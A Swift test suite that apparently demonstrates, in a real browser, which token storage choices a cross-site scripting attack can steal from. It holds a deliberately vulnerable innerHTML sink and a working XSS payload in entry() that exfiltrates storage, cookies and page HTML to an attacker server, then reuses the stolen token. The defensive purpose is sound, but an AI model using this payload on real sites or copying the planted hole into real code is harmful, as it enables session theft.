import Foundation
import TestSupport
import Testing

/// A page shows an entry of a stranger as HTML (cross-site scripting), in a real browser. What the script in that entry
/// takes away depends on where the page keeps its token.
@Suite(.serialized, .timeLimit(.minutes(5)), .enabled(if: ServiceName.exist(ServiceName.shop)))
struct SmuggledScriptTests {
    enum Storage: String, CaseIterable {
        case localStorage, memory, cookie

        /// Statements that store the token of `signedIn`, the response of login, and make the `options` of later requests.
        fileprivate var statements: String {
            switch self {
            case .localStorage:
                """
                localStorage.setItem("token", signedIn.access_token);
                const options = { headers: { Authorization: `Bearer ${localStorage.getItem("token")}` } };
                """
            case .memory: "const options = { headers: { Authorization: `Bearer ${signedIn.access_token}` } };"
            case .cookie: "const options = { credentials: 'include' };"
            }
        }
    }

    /// A page that lists the orders of the person, and shows an entry of its guest book.
    private func guestBook(keepingTokenIn storage: Storage, of cluster: Cluster) -> String {
        """
        <!doctype html><title>Guest book</title><output></output><p></p>
        <script type="module">
        const login = "\(cluster.url(.login, "/session/token"))";
        const response = await fetch(login, { method: "POST", credentials: "include" });
        const signedIn = await response.json();
        \(storage.statements)
        const orders = await fetch("\(cluster.url(.orders, "/orders"))", options);
        document.querySelector("output").textContent = `orders: ${orders.status}`;
        document.querySelector("p").innerHTML = decodeURIComponent(location.hash.slice(1)); // the mistake
        </script>
        """
    }

    /// An entry with a script that sends all that a page stores, knows and shows to the attacker.
    private func entry(sendingTo attacker: Int) -> String {
        let taken = """
            [{...localStorage}, {...sessionStorage}, document.cookie, document.documentElement.outerHTML,
            Object.values(window).filter((value) => typeof value === 'string')]
            """
        let script =
            "new Image().src='http://localhost:\(attacker)/taken?'+encodeURIComponent(JSON.stringify(\(taken)))"
        return "Nice page! <img src=x onerror=\"\(script)\">"
    }

    /// What the script has sent to the server of the attacker.
    private func requestToAttacker(of cluster: Cluster) async throws -> String {
        var taken: String?
        _ = try await eventually {
            let log = try String(contentsOf: cluster.directory.appending(path: "run/external.log"), encoding: .utf8)
            taken = log.firstMatch(of: /GET \/taken\?(\S+)/)?.1.removingPercentEncoding
            return taken != nil
        }
        return try #require(taken)
    }

    @Test(arguments: Storage.allCases)
    func `a smuggled script takes a token out of local storage, but not out of memory or a cookie`(
        storage: Storage
    ) async throws {
        let environment = ["TOKEN_COOKIE": storage == .cookie ? "on" : "off"]
        try await withCluster(running: [.login, .catalog, .orders], environment: environment) { cluster in
            let attacker = try await cluster.unusedPort()
            try await cluster.serve([:], at: attacker)
            try await cluster.serve(
                ["book.html": guestBook(keepingTokenIn: storage, of: cluster)], at: cluster.externalPort)
            let taken = try await withBrowser(in: cluster) { browser in
                try await browser.signIn(cluster)
                let entry =
                    entry(sendingTo: attacker).addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""
                try await browser.open("http://localhost:\(cluster.externalPort)/book.html#\(entry)")
                // The page itself has a token that orders accepts.
                #expect(try await browser.shows("orders: 200"))
                return try await requestToAttacker(of: cluster)
            }
            #expect(taken.contains("orders: 200"), "The script has seen the page.")
            let token = taken.firstMatch(of: /eyJ[\w-]+\.[\w-]+\.[\w-]+/)
            #expect((token != nil) == (storage == .localStorage))
            // The attacker needs neither the browser nor the page to use it.
            if let token { #expect(try await cluster.order(token: String(token.0)).status == 201) }
        }
    }
}
